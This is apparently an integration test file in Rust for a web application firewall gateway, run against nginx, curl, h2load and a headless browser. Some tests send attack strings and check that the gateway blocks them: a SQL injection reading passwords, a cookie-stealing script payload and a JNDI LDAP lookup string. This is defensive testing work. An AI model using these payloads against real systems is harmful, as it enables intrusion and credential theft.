//! The gateway between programs of others: nginx in front of it and behind it, curl, h2load, and a browser with a WebSocket.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use gateway::route::Mode;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::watch;
use tokio::time::timeout;

use crate::programs::{Nginx, program, run};
use crate::support::{Does, SOON, acceptor, read_all, start, start_with, status, trust_loopback, upstream};

/// What no inspection may miss.
const ATTACK: &str = "/a?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20";

#[tokio::test]
async fn nginx_behind_the_gateway_serves_its_files_whole() {
    let Some(nginx) = program("nginx_behind_the_gateway_serves_its_files_whole", &["nginx"]) else { return };
    let large: Vec<u8> = (0..5_000_000_u32).map(|it| (it % 251) as u8).collect();
    let nginx = Nginx::start(&nginx, "keepalive_requests 3;", &[("page.html", b"a page"), ("large.bin", &large)]).await;
    let running = start(&[nginx.address], |_| {}).await;
    // More than nginx answers on one connection.
    for _ in 0..10 {
        let answer = running.get("/page.html", "").await;
        assert!(status(&answer) == 200 && answer.ends_with("\r\n\r\na page"), "{answer}");
    }
    let part = running.get("/page.html", "Range: bytes=2-\r\n").await;
    assert!(status(&part) == 206 && part.ends_with("\r\n\r\npage"), "{part}");
    assert_eq!(status(&running.get("/none", "").await), 404);
    let head = running.ask("HEAD /large.bin HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n").await;
    assert!(
        status(&head) == 200 && head.to_lowercase().contains("content-length: 5000000") && head.ends_with("\r\n\r\n")
    );
    let mut stream = running.connect().await;
    stream.write_all(b"GET /large.bin HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n").await.unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.unwrap();
    assert!(answer.ends_with(&large), "{} bytes", answer.len());
}

#[tokio::test]
async fn nginx_in_front_hands_on_who_the_client_is_and_what_is_blocked() {
    let name = "nginx_in_front_hands_on_who_the_client_is_and_what_is_blocked";
    let Some(nginx) = program(name, &["nginx"]) else { return };
    let site = upstream(Does::Echo).await;
    let running = start(&[site.address], |settings| {
        trust_loopback(settings);
        settings.policy.routes[0].mode = Mode::Block;
    })
    .await;
    let lines = format!(
        "location / {{ proxy_pass http://{}; proxy_http_version 1.1; proxy_set_header Connection \"\";\n\
         proxy_set_header Host $host; proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for; }}",
        running.address
    );
    let nginx = Nginx::start(&nginx, &lines, &[]).await;
    let get = async |path: &str, fields: &str, body: &str| {
        let mut stream = TcpStream::connect(nginx.address).await.unwrap();
        let length = if body.is_empty() { String::new() } else { format!("Content-Length: {}\r\n", body.len()) };
        let method = if body.is_empty() { "GET" } else { "POST" };
        let head =
            format!("{method} {path} HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n{fields}{length}\r\n");
        stream.write_all(format!("{head}{body}").as_bytes()).await.unwrap();
        read_all(&mut stream).await
    };
    let passed = get("/a?b=c", "X-Forwarded-For: 203.0.113.7\r\n", "").await;
    assert!(status(&passed) == 200 && passed.contains("GET /a?b=c HTTP/1.1"), "{passed}");
    assert_eq!(status(&get(ATTACK, "X-Forwarded-For: 203.0.113.8\r\n", "").await), 403);
    assert_eq!(status(&get("/form", "", "name=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E").await), 403);
    let whole = get("/form", "", &"a=b&".repeat(50_000)).await;
    assert!(status(&whole) == 200 && whole.ends_with("a=b&"));
    let clients: Vec<String> = running.events(4).await.into_iter().map(|it| it.client).collect();
    assert_eq!(clients[..3], ["203.0.113.7", "203.0.113.8", "127.0.0.1"]);
}

#[tokio::test]
async fn nginx_asks_before_it_serves() {
    let Some(nginx) = program("nginx_asks_before_it_serves", &["nginx"]) else { return };
    let running = start(&[], |settings| {
        trust_loopback(settings);
        settings.policy.routes[0].mode = Mode::Block;
        settings.authz_path = Some("/authz".to_owned());
    })
    .await;
    // As docs/gateway.md has it; the site is nginx itself.
    let lines = format!(
        "location / {{ auth_request /_bartizan; try_files $uri =404; }}\nlocation = /_bartizan {{ internal;\n\
         proxy_pass http://{}/authz; proxy_pass_request_body off; proxy_set_header Content-Length \"\";\n\
         proxy_set_header Host $host; proxy_set_header X-Original-URI $request_uri;\n\
         proxy_set_header X-Original-Method $request_method; proxy_set_header X-Forwarded-For $remote_addr; }}",
        running.address
    );
    let nginx = Nginx::start(&nginx, &lines, &[("page.html", b"a page")]).await;
    let get = async |path: &str, fields: &str| {
        let mut stream = TcpStream::connect(nginx.address).await.unwrap();
        let request = format!("GET {path} HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n{fields}\r\n");
        stream.write_all(request.as_bytes()).await.unwrap();
        read_all(&mut stream).await
    };
    let passed = get("/page.html?a=b", "").await;
    assert!(status(&passed) == 200 && passed.ends_with("a page"), "{passed}");
    for (path, fields) in [
        ("/page.html?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20", ""),
        (
            "/page.html?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20",
            "X-Original-URI: /\r\nX-Original-Method: GET\r\n",
        ),
        ("/page.html", "User-Agent: ${jndi:ldap://203.0.113.9/a}\r\n"),
    ] {
        assert_eq!(status(&get(path, fields).await), 403, "{path} {fields}");
    }
    let event = running.events(4).await.remove(0);
    assert_eq!((event.path.as_str(), event.host.as_str(), event.status), ("/page.html?a=b", "shop.example", None));
}

#[tokio::test]
async fn curl_speaks_http_2_with_and_without_tls() {
    let Some(curl) = program("curl_speaks_http_2_with_and_without_tls", &["curl"]) else { return };
    let site = upstream(Does::Echo).await;
    let tls = Some(acceptor("first", &["h2", "http/1.1"]));
    for (tls, scheme, option) in [(None, "http", "--http2-prior-knowledge"), (tls, "https", "--http2")] {
        let running = start_with(&[site.address], tls, |settings| settings.policy.routes[0].mode = Mode::Block).await;
        let url = format!("{scheme}://localhost:{}", running.address.port());
        let resolve = format!("localhost:{}:127.0.0.1", running.address.port());
        let common = ["-sSk", "--resolve", &resolve, option, "-w", "\n%{http_code} %{http_version}"];
        for (target, more, expected) in [
            ("/a?b=c", &[][..], "200 2"),
            (ATTACK, &[], "403 2"),
            ("/form", &["--data", "name=<script>alert(document.cookie)</script>"], "403 2"),
            ("/form", &["--data", "name=O'Brien"], "200 2"),
        ] {
            let url = format!("{url}{target}");
            let arguments: Vec<&str> = common.iter().copied().chain(more.iter().copied()).chain([&*url]).collect();
            let answer = run(&curl, &arguments).await;
            assert!(answer.ends_with(expected), "{url} {more:?}: {answer}");
        }
    }
}

#[tokio::test]
async fn a_load_over_both_versions_fails_no_request_while_the_policy_changes() {
    let name = "a_load_over_both_versions_fails_no_request_while_the_policy_changes";
    let Some(h2load) = program(name, &["h2load"]) else { return };
    let site = upstream(Does::Echo).await;
    let running = Arc::new(start(&[site.address], |_| {}).await);
    let changing = tokio::spawn({
        let running = running.clone();
        async move {
            for round in 0.. {
                let mut policy = running.policy.clone();
                policy.routes[0].threshold = 5 + round % 7;
                policy.inspects = round % 2 == 0;
                running.gateway.change(policy, None);
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }
    });
    let url = format!("http://{}/a?b=c", running.address);
    for version in [&["-m", "10"][..], &["--h1"]] {
        let arguments: Vec<&str> = version.iter().copied().chain(["-n", "3000", "-c", "8", &url]).collect();
        let told = run(&h2load, &arguments).await;
        assert!(told.contains("3000 succeeded, 0 failed, 0 errored, 0 timeout"), "{told}");
        assert!(told.contains("status codes: 3000 2xx"), "{told}");
    }
    changing.abort();
}

/// A page that speaks with its site over a WebSocket, and shows what comes back. It is loaded once its picture is, which comes
/// after that.
const PAGE: &str = "<!doctype html><title>waits</title><script>\
    const socket = new WebSocket('ws://' + location.host + '/socket?a=b');\
    socket.onopen = () => socket.send('there and back');\
    socket.onmessage = it => { document.title = 'came: ' + it.data; socket.close(); };\
    socket.onerror = () => { document.title = 'failed'; };</script><img src=/picture>";

/// A site with that page, whose WebSocket sends back what it gets.
async fn speaking_site() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let (told, _) = watch::channel(false);
    tokio::spawn(async move {
        loop {
            let (mut stream, told) = (listener.accept().await.unwrap().0, told.clone());
            tokio::spawn(async move { while serve(&mut stream, &told).await.is_some() {} });
        }
    });
    address
}

/// Answers one request; `told` is that the WebSocket has ended.
async fn serve(stream: &mut TcpStream, told: &watch::Sender<bool>) -> Option<()> {
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") {
        head.push(char::from(stream.read_u8().await.ok()?));
    }
    let lower = head.to_lowercase();
    let Some(at) = lower.find("sec-websocket-key: ") else {
        if head.starts_with("GET /picture ") {
            // A page that never speaks is shown all the same.
            let _ = timeout(SOON, told.subscribe().wait_for(|it| *it)).await;
        }
        let kind = "HTTP/1.1 200 OK\r\nContent-Type: text/html";
        let answer = format!("{kind}\r\nContent-Length: {}\r\n\r\n{PAGE}", PAGE.len());
        return stream.write_all(answer.as_bytes()).await.ok();
    };
    let accept = accept_of(head[at + "sec-websocket-key: ".len()..].split("\r\n").next()?);
    let head = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade";
    let answer = format!("{head}\r\nSec-WebSocket-Accept: {accept}\r\n\r\n");
    stream.write_all(answer.as_bytes()).await.ok()?;
    let (kind, text) = read_frame(stream).await?;
    stream.write_all(&[&[kind, u8::try_from(text.len()).unwrap()], &text[..]].concat()).await.ok()?;
    // The browser closes once it has shown what came.
    let (kind, text) = read_frame(stream).await?;
    stream.write_all(&[&[kind, u8::try_from(text.len()).unwrap()], &text[..]].concat()).await.ok()?;
    told.send_replace(true);
    None
}

/// A short frame without its mask. Source: RFC 6455, section 5.2.
async fn read_frame(stream: &mut TcpStream) -> Option<(u8, Vec<u8>)> {
    let (kind, length) = (stream.read_u8().await.ok()?, usize::from(stream.read_u8().await.ok()? & 0x7f));
    let mut rest = vec![0; 4 + length];
    stream.read_exact(&mut rest).await.ok()?;
    let (mask, text) = rest.split_at(4);
    Some((kind, text.iter().zip(mask.iter().cycle()).map(|(byte, mask)| byte ^ mask).collect()))
}

/// What a server answers to the key of a client. Source: RFC 6455, section 4.2.2.
fn accept_of(key: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut digest = sha1(format!("{key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11").as_bytes()).to_vec();
    digest.push(0);
    let number = |it: &[u8]| it.iter().fold(0, |sum, byte| sum << 8 | usize::from(*byte));
    let digits = digest.chunks(3).map(number).flat_map(|it| [18, 12, 6, 0].map(|shift| DIGITS[it >> shift & 63]));
    let text: String = digits.map(char::from).take(27).collect();
    text + "="
}

/// SHA-1 of a short text, which WebSocket asks for. Source: RFC 3174, section 6.1.
fn sha1(text: &[u8]) -> [u8; 20] {
    let mut padded = text.to_vec();
    padded.push(0x80);
    while padded.len() % 64 != 56 {
        padded.push(0);
    }
    padded.extend_from_slice(&(8 * text.len() as u64).to_be_bytes());
    let mut state = [0x6745_2301_u32, 0xefcd_ab89, 0x98ba_dcfe, 0x1032_5476, 0xc3d2_e1f0];
    for block in padded.chunks(64) {
        let mut words: Vec<u32> = block.chunks(4).map(|it| u32::from_be_bytes(it.try_into().unwrap())).collect();
        for at in 16..80 {
            words.push((words[at - 3] ^ words[at - 8] ^ words[at - 14] ^ words[at - 16]).rotate_left(1));
        }
        let [mut a, mut b, mut c, mut d, mut e] = state;
        for (at, word) in words.into_iter().enumerate() {
            let (mixed, constant) = match at / 20 {
                0 => (b & c | !b & d, 0x5a82_7999_u32),
                1 => (b ^ c ^ d, 0x6ed9_eba1),
                2 => (b & c | b & d | c & d, 0x8f1b_bcdc),
                _ => (b ^ c ^ d, 0xca62_c1d6),
            };
            let next = [a.rotate_left(5), mixed, e, constant, word].into_iter().fold(0, u32::wrapping_add);
            (e, d, c, b, a) = (d, c, b.rotate_left(30), a, next);
        }
        for (sum, it) in state.iter_mut().zip([a, b, c, d, e]) {
            *sum = sum.wrapping_add(it);
        }
    }
    let mut out = [0; 20];
    out.chunks_mut(4).zip(state).for_each(|(part, it)| part.copy_from_slice(&it.to_be_bytes()));
    out
}

#[test]
fn a_key_is_answered_as_the_standard_has_it() {
    assert_eq!(accept_of("dGhlIHNhbXBsZSBub25jZQ=="), "s3pPLMBiTxaQ9kYGzzhZRbK+xOo=");
}

#[tokio::test]
async fn a_page_in_a_browser_speaks_over_a_web_socket() {
    let name = "a_page_in_a_browser_speaks_over_a_web_socket";
    let Some(browser) = program(name, &["chromium", "chromium-browser", "google-chrome"]) else { return };
    let site = speaking_site().await;
    let running = start(&[site], |settings| settings.policy.routes[0].mode = Mode::Block).await;
    let profile = tempfile::tempdir().unwrap();
    let (profile, url) =
        (format!("--user-data-dir={}", profile.path().display()), format!("http://{}/", running.address));
    let arguments = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--timeout=5000",
        &profile,
        "--dump-dom",
        &url,
    ];
    let page = run(&browser, &arguments).await;
    assert!(page.contains("<title>came: there and back</title>"), "{page}");
    let events = running.events(3).await;
    assert!(events.iter().any(|it| it.path == "/socket?a=b" && it.status == Some(101)), "{events:?}");
}
